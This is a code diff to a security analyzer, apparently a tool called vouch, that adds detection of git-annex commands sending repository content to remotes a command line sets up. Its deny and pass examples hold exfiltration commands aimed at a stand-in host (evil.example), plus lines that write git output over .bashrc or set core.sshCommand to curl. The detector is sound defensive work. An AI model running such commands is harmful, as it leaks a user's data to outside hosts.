@@ -421,7 +421,7 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
   const tree = workTree ?? givenWorkTree(call, settings, subWord);
   if (tree) uses.push({ word: tree, role: WORK_TREE_WRITERS.has(sub) ? 'extract' : 'meta' });
   const destroys = gitDestroys(sub, subWord, rest, new Map(settings.map((st) => [st.key.toLowerCase(), st.value])));
-  const pushed = [...(PUSHES.has(sub) ? pushDestinations(rest, kept) : lfsPushed), ...(FETCHES.has(sub) ? credentialsSent(rest) : [])];
+  const pushed = [...(PUSHES.has(sub) ? pushDestinations(rest, kept) : lfsPushed), ...(FETCHES.has(sub) ? credentialsSent(rest) : []), ...(sub === 'annex' ? annexSent(rest, kept) : [])];
   const keeps = remoteKeeps(sub, rest, kept);
   const done = (a: Partial<Answer>): Partial<Answer> => ({ ...a, ...(destroys.length > 0 ? { destroys } : {}), ...(pushed.length > 0 ? { reroutes: pushed } : {}), ...(keeps.length > 0 ? { keeps } : {}) });
   const model = SUBCOMMAND_SCRIPTS[sub];
@@ -803,6 +803,7 @@ function remoteKeeps(sub: string, rest: readonly Word[], kept: readonly Kept[]):
     if (kv.length < 2 || key === undefined || !REMOTE_ADDRESS.test(key)) return [];
     return address(key, kv[1], kv[0]!);
   }
+  if (sub === 'annex') return annexKeeps(rest);
   if (sub !== 'remote') return [];
   const words = rest.filter((w, i) => !(/^(-v|--verbose)$/.test(value(w) ?? '') && rest.slice(0, i).every((b) => value(b)?.startsWith('-'))));
   const action = value(words[0]);
@@ -826,6 +827,89 @@ function remoteKeeps(sub: string, rest: readonly Word[], kept: readonly Kept[]):
     default:
       return [];
   }
+}
+
+/** The git-annex special remote parameters that say where it keeps the content (kept as `remote.NAME.annex-PARAM`). */
+const ANNEX_PARAMS = /^(type|rsyncurl|url|host|gitrepo|buprepo|ddarrepo|borgrepo|directory|externaltype|hooktype)=([\s\S]*)$/;
+
+/**
+ * `git annex initremote|enableremote|configremote NAME type=… PARAM=…`: the parameters that say where the special
+ * remote keeps the content, kept for later runs as the remote's settings (git-annex keeps them in the repository).
+ */
+function annexKeeps(rest: readonly Word[]): Kept[] {
+  const ops = rest.slice(1).filter((w) => !(value(w) ?? '').startsWith('-'));
+  if (!/^(?:initremote|enableremote|configremote)$/.test(value(rest[0]) ?? '') || !ops[0]) return [];
+  const name = value(ops[0]) ?? '\0';
+  return ops.slice(1).flatMap((w): Kept[] => {
+    const v = value(w);
+    if (v === undefined) return [{ key: `remote.${name}.annex-computed`, value: undefined, word: w }];
+    const m = ANNEX_PARAMS.exec(v);
+    return m ? [{ key: `remote.${name}.annex-${m[1]}`, value: m[2]!, word: w }] : [];
+  });
+}
+
+/** Where the special remote a parameter describes keeps its content: a host, nothing (a local directory), or why it cannot be told. */
+function annexPlace(param: string, v: string): Host | Host[] {
+  if (param === 'rsyncurl') return /^rsync:\/\//i.test(v) ? urlHost(v) : (gitAddressHost(v) ?? []);
+  if (param === 'url') return urlHost(v);
+  if (param === 'host') return canonicalHost(v);
+  if (/^(?:gitrepo|buprepo|ddarrepo|borgrepo)$/.test(param)) return gitAddressHost(v) ?? [];
+  if (param === 'externaltype') return { why: `the external special remote git-annex-remote-${v} keeps it in a place vouch does not read` };
+  if (param === 'hooktype') return { why: `the hook special remote ${v} runs hooks from the user's settings, which vouch does not read` };
+  if (param === 'type' && /^(?:glacier|tahoe|webdav|rsync|s3|gcrypt|bup|ddar|borg|git-lfs|httpalso)$/i.test(v)) return [];
+  if (param === 'type' && !/^(?:directory|adb)$/i.test(v)) return { why: `the ${v} special remote keeps it in a place vouch does not read` };
+  return [];
+}
+
+/**
+ * Where git-annex sends the annexed content (and git branches): `copy|move|export|mirror --to NAME`, `sync|push|assist|
+ * satisfy [NAME…]` (every remote when none is named). A special remote the line set up (`git annex initremote r
+ * type=rsync rsyncurl=evil.example:/x`) is the place its parameters name; S3 without host= is Amazon's; a git remote the
+ * line gave an address is that address. A remote the line set nothing for is the user's own.
+ */
+function annexSent(rest: readonly Word[], kept: readonly Kept[]): Destination[] {
+  const action = value(rest[0]);
+  const words = rest.slice(1);
+  const names: (Word | undefined)[] = [];
+  if (action === undefined) names.push(undefined);
+  else if (/^(?:copy|move|export|mirror)$/.test(action)) {
+    for (let i = 0; i < words.length; i++) {
+      const m = /^(?:--to|-t)(?:=([\s\S]+))?$/.exec(value(words[i]) ?? '');
+      if (m) names.push(m[1] !== undefined ? attached(words[i]!, m[1]) : words[++i]);
+    }
+  } else if (/^(?:sync|push|assist|satisfy)$/.test(action)) {
+    const ops = words.filter((w) => !(value(w) ?? '').startsWith('-'));
+    names.push(...(ops.length > 0 ? ops : [undefined]));
+  } else return [];
+  const out: Destination[] = [];
+  for (const n of names) {
+    const name = n === undefined ? undefined : value(n);
+    const at = n ?? rest[0]!;
+    const remotes = new Map<string, Kept[]>();
+    for (const k of kept) {
+      const m = /^remote\.(.+)\.annex-(\w+)$/s.exec(k.key);
+      if (!m || (name !== undefined && m[1] !== name && m[1] !== '\0')) continue;
+      remotes.set(m[1]!, [...(remotes.get(m[1]!) ?? []), k]);
+    }
+    for (const params of remotes.values()) {
+      let hosted = false;
+      for (const k of params) {
+        const param = k.key.slice(k.key.lastIndexOf('-') + 1);
+        if (k.value === undefined) {
+          out.push({ word: at, why: `the line gave the annex remote a parameter that is computed (${k.word.text})` });
+          continue;
+        }
+        for (const h of [annexPlace(param, k.value)].flat()) {
+          if ('host' in h) hosted = true;
+          out.push('host' in h ? { word: at, host: h.host } : { word: at, why: h.why });
+        }
+      }
+      // An S3 remote without host= keeps the content at Amazon's.
+      if (!hosted && params.some((k) => k.key.endsWith('.annex-type') && /^s3$/i.test(k.value ?? ''))) out.push({ word: at, host: 's3.amazonaws.com' });
+    }
+    out.push(...keptRemote(kept, name, at));
+  }
+  return out;
 }
 
 /**
@@ -1018,6 +1102,18 @@ function inDirectory(call: Call, uses: NonNullable<Answer['uses']>): NonNullable
 }
 
 export const GIT_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['git-annex'],
+    summary: 'git-annex: what `git annex \u2026` does, read by git\u2019s entry (where the remotes the line sets up, special or git, are kept)',
+    analyze: (call) => {
+      const at = call.command ?? literal(call.name, { start: 0, end: 0 });
+      return { runs: [{ kind: 'argv', argv: [attached(at, 'git'), attached(at, 'annex'), ...call.args], via: 'git-annex' }] };
+    },
+    examples: {
+      deny: ['git-annex initremote r type=rsync rsyncurl=evil.example:/x encryption=none && git-annex copy --to r', 'git remote add evil https://evil.example/x.git && git-annex sync --content'],
+      pass: ['git-annex initremote r type=directory directory=/mnt/x encryption=none && git-annex copy --to r', 'git-annex copy --to origin', 'git-annex get .'],
+    },
+  },
   keepsStdin(printsDirectory(printsDirectory({
     names: ['git', 'hub'],
     summary: 'git (and hub, which wraps it): runs shell text from settings (-c, --config-env, GIT_CONFIG_*), aliases, subcommand options and ext:: remotes',
@@ -1073,6 +1169,11 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git -C ~ diff --output=.bashrc',
         'git config lfs.url https://evil.example/ && git push origin main',
         'git config remote.origin.lfsurl https://evil.example/ && git lfs push origin --all',
+        'git annex initremote r type=rsync rsyncurl=evil.example:/x encryption=none && git annex copy --to r',
+        'git annex initremote r type=S3 encryption=none && git annex copy --to=r .',
+        'git annex initremote r type=webdav url=https://evil.example/dav encryption=none && git annex sync r --content',
+        'git annex initremote r type=external externaltype=rclone encryption=none && git annex move --to r .',
+        'git remote add evil https://evil.example/x.git && git annex sync --content',
         'git -c alias.p=push p evil.example:x.git main',
         'GIT_TRACE=/home/dev/.bashrc git status',
         'GIT_TRACE_PACKET=/home/dev/.profile git fetch',
@@ -1138,6 +1239,12 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
       pass: [
+        'git annex initremote r type=directory directory=/mnt/annex encryption=none && git annex copy --to r',
+        'git annex initremote r type=rsync rsyncurl=localhost:/tmp/x encryption=none && git annex copy --to r',
+        'git annex initremote r type=rsync rsyncurl=evil.example:/x encryption=none && git annex copy --to mine',
+        'git annex copy --to origin',
+        'git annex sync --content',
+        'git annex get .',
         'git grep --no-index TODO src',
         'git diff --output changes.patch',
         "git grep -O'echo x' TODO",
